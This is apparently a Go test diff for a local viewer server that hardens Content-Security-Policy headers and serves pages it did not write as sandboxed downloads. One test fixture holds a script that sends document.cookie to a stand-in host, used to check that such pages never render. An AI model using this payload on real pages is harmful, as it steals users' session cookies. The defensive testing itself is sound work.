@@ -48,13 +48,19 @@ func put(t *testing.T, path, text string) {
 // open opens a folder and serves it to who asks for the server's own address.
 func open(t *testing.T, dir string) *httptest.Server {
 	t.Helper()
+	return openOf(t, dir, func(string, []byte) bool { return true })
+}
+
+// openOf serves a folder of which wrote tells the pages that this program wrote.
+func openOf(t *testing.T, dir string, wrote func(string, []byte) bool) *httptest.Server {
+	t.Helper()
 	f, err := viewer.Open(dir)
 	if err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { _ = f.Close() })
 	var host string
-	server := httptest.NewServer(f.Handler(func(h string) bool { return h == host }))
+	server := httptest.NewServer(f.Handler(viewer.Guard{Known: func(h string) bool { return h == host }, Wrote: wrote}))
 	t.Cleanup(server.Close)
 	host = server.Listener.Addr().String()
 	return server
@@ -186,11 +192,18 @@ func TestHeaders(t *testing.T) {
 		},
 		"/show/shed.report.html": {"X-Frame-Options": "DENY"},
 		"/file/shed.report.html": {"Content-Type": "text/html; charset=utf-8", "X-Frame-Options": "SAMEORIGIN"},
-		"/file/shed.plan.svg":    {"Content-Type": "image/svg+xml"},
-		"/file/shed.plan.pdf":    {"Content-Type": "application/pdf"},
-		"/state":                 {"Content-Type": "application/json"},
-		"/page/view.js":          {"Content-Type": "text/javascript; charset=utf-8"},
-		"/nothing":               {"X-Frame-Options": "DENY"},
+		"/file/shed.plan.svg": {
+			"Content-Type":            "image/svg+xml",
+			"Content-Security-Policy": "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
+		},
+		"/file/shed.plan.pdf": {"Content-Type": "application/pdf"},
+		"/file/shed.json": {
+			"X-Frame-Options":         "DENY",
+			"Content-Security-Policy": "sandbox; default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
+		},
+		"/state":        {"Content-Type": "application/json"},
+		"/page/view.js": {"Content-Type": "text/javascript; charset=utf-8"},
+		"/nothing":      {"X-Frame-Options": "DENY"},
 	} {
 		r, _ := ask(t, server, "GET", target, "")
 		for _, all := range [][2]string{
@@ -205,9 +218,77 @@ func TestHeaders(t *testing.T) {
 				t.Errorf("%s: %s is %q, want %q", target, name, got, want)
 			}
 		}
-		if !strings.Contains(r.Header.Get("Content-Security-Policy"), "frame-ancestors") {
-			t.Errorf("%s may be framed by anybody", target)
+		policy := r.Header.Get("Content-Security-Policy")
+		for _, directive := range []string{"default-src 'none'", "frame-ancestors ", "base-uri 'none'", "form-action 'none'"} {
+			if !strings.Contains(policy, directive) {
+				t.Errorf("%s: the policy %q has no %s", target, policy, directive)
+			}
 		}
+	}
+}
+
+// What the report may do is what it states itself, by the hashes of its own scripts, and nothing from or to elsewhere.
+func TestPolicyOfTheReport(t *testing.T) {
+	r, _ := ask(t, open(t, results(t)), "GET", "/file/shed.report.html", "")
+	policy := map[string]string{}
+	for directive := range strings.SplitSeq(r.Header.Get("Content-Security-Policy"), ";") {
+		name, values, _ := strings.Cut(strings.TrimSpace(directive), " ")
+		policy[name] = values
+	}
+	for name, want := range map[string]string{
+		"default-src": "'none'", "img-src": "data:", "connect-src": "'none'", "frame-src": "'none'", "frame-ancestors": "'self'", "base-uri": "'none'", "form-action": "'none'",
+	} {
+		if policy[name] != want {
+			t.Errorf("%s is %q, want %q", name, policy[name], want)
+		}
+	}
+	for _, name := range []string{"script-src", "style-src"} {
+		for source := range strings.FieldsSeq(policy[name]) {
+			if !strings.HasPrefix(source, "'sha256-") {
+				t.Errorf("%s allows %s", name, source)
+			}
+		}
+		if policy[name] == "" {
+			t.Errorf("%s is missing", name)
+		}
+	}
+}
+
+// A page that this program did not write, or that was changed since, is never opened by the browser: its script could
+// send away what the server knows.
+func TestPagesOfOthersAreDownloads(t *testing.T) {
+	dir := results(t)
+	before, err := os.ReadFile(filepath.Join(dir, "shed.plan.svg"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	script := "<!DOCTYPE html><script>new Image().src='http://roofs.invalid/?'+document.cookie</script>"
+	put(t, filepath.Join(dir, "shed.report.html"), script)
+	server := openOf(t, dir, func(name string, content []byte) bool {
+		return name == "shed.plan.svg" && string(content) == string(before)
+	})
+	for target, inline := range map[string]bool{"/file/shed.report.html": false, "/file/shed.report.pdf": false, "/file/shed.plan.svg": true, "/file/shed.plan.pdf": false} {
+		r, body := ask(t, server, "GET", target, "")
+		policy := r.Header.Get("Content-Security-Policy")
+		if r.StatusCode != http.StatusOK || body == "" {
+			t.Errorf("%s: %s", target, r.Status)
+		}
+		if download := r.Header.Get("Content-Disposition") == "attachment"; download == inline {
+			t.Errorf("%s: a download: %v", target, download)
+		}
+		if sandbox := strings.HasPrefix(policy, "sandbox; default-src 'none'"); sandbox == inline {
+			t.Errorf("%s: policy %s", target, policy)
+		}
+	}
+	if _, body := ask(t, server, "GET", "/show/shed.report.html", ""); strings.Contains(body, "<iframe") || !strings.Contains(body, "did not write this report") {
+		t.Errorf("it is framed:\n%s", body)
+	}
+	if _, body := ask(t, server, "GET", "/show/shed.plan.svg", ""); !strings.Contains(body, "<iframe") {
+		t.Errorf("its own plan is not shown:\n%s", body)
+	}
+	put(t, filepath.Join(dir, "shed.plan.svg"), string(before)+"<!-- changed -->")
+	if r, _ := ask(t, server, "GET", "/file/shed.plan.svg", ""); r.Header.Get("Content-Disposition") != "attachment" {
+		t.Error("a changed plan is shown")
 	}
 }
 
